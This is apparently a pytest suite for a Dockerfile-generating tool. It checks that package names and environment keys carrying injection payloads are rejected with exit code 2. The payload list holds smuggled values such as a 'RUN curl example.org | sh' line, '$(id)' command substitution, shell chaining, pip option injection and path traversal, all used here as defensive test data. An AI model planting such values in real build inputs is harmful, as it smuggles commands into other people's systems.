"""J81: a package name that injects a Dockerfile line or an option: exit 2, by strict grammar."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from repro.errors import UsageError
from repro.project.load import load_project

PAYLOADS = (
    "numpy\nRUN curl example.org | sh",
    "numpy\r\nUSER root",
    "numpy\\\n--index-url=x",
    "--index-url=http://example.org",
    "-rother.txt",
    "-e git+http://example.org/x",
    "numpy --install-option=x",
    "numpy; RUN id",
    "numpy && id",
    "numpy | id",
    "$(id)",
    "`id`",
    "${HOME}",
    "numpy\u2028RUN id",
    "numpy\u0085RUN id",
    "numpy\x0bRUN id",
    "numpy\x00",
    "numpy\x1b[2J",
    "numpy==1.0\\",
    "numpy===1.0\\",
    "numpy===$(id)",
    "numpy; python_version > '3\n--index-url x'",
    "numpy; platform_release == '$(id)'",
    "numpy; platform_release == ' #'",
    "../numpy",
    "numpy/../../x",
    "\u017fklearn",
    "num\u200bpy",
    "numpy*",
    "?name(numpy)",
    "",
    " ",
)
PLACES = {
    "repro.toml: environment.apt[0]": ("repro.toml", "[environment]\napt = [{}]\n"),
    "pyproject.toml: project.dependencies[0]": (
        "pyproject.toml",
        '[project]\nname = "x"\ndependencies = [{}]\n',
    ),
    "pyproject.toml: dependency-groups.g[0]": (
        "pyproject.toml",
        '[tool.repro.environment]\ngroups = ["g"]\n[dependency-groups]\ng = [{}]\n',
    ),
}


def toml_string(text: str) -> str:
    return json.dumps(text).replace("\x7f", "\\u007f")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("place", PLACES)
def test_configuration_tables(tmp_path: Path, place: str, payload: str) -> None:
    name, text = PLACES[place]
    (tmp_path / name).write_text(text.format(toml_string(payload)))
    with pytest.raises(UsageError) as caught:
        load_project(tmp_path)
    assert caught.value.exit_code == 2
    assert caught.value.message.startswith(place)
    assert caught.value.message.isprintable()


@pytest.mark.parametrize("payload", [p for p in PAYLOADS if p.strip()])
@pytest.mark.parametrize("name", ["apt.txt", "requirements.in"])
def test_input_files(tmp_path: Path, name: str, payload: str) -> None:
    (tmp_path / name).write_bytes(f"six\n{payload}\n".encode())
    if (name, payload) in LEGAL:
        load_project(tmp_path)
        return
    with pytest.raises(UsageError) as caught:
        load_project(tmp_path)
    assert caught.value.exit_code == 2
    assert caught.value.message.startswith(name)
    assert caught.value.message.replace("\n", "").isprintable()


LEGAL: set[tuple[str, str]] = {
    ("requirements.in", "numpy==1.0\\"),  # a continuation at the end of the file, as pip reads it
    ("requirements.in", "numpy===1.0\\"),
}


@pytest.mark.parametrize(
    "suite", ["bookworm\nRUN id", "--help", "../bookworm", "book worm", "x" * 999]
)
def test_suites_and_interpreters(tmp_path: Path, suite: str) -> None:
    for key in ("suite", "python", "resolver"):
        (tmp_path / "repro.toml").write_text(f"[environment]\n{key} = {toml_string(suite)}\n")
        with pytest.raises(UsageError) as caught:
            load_project(tmp_path)
        assert caught.value.message.startswith(f"repro.toml: environment.{key}")
        assert caught.value.message.isprintable()
        assert len(caught.value.message) < 300
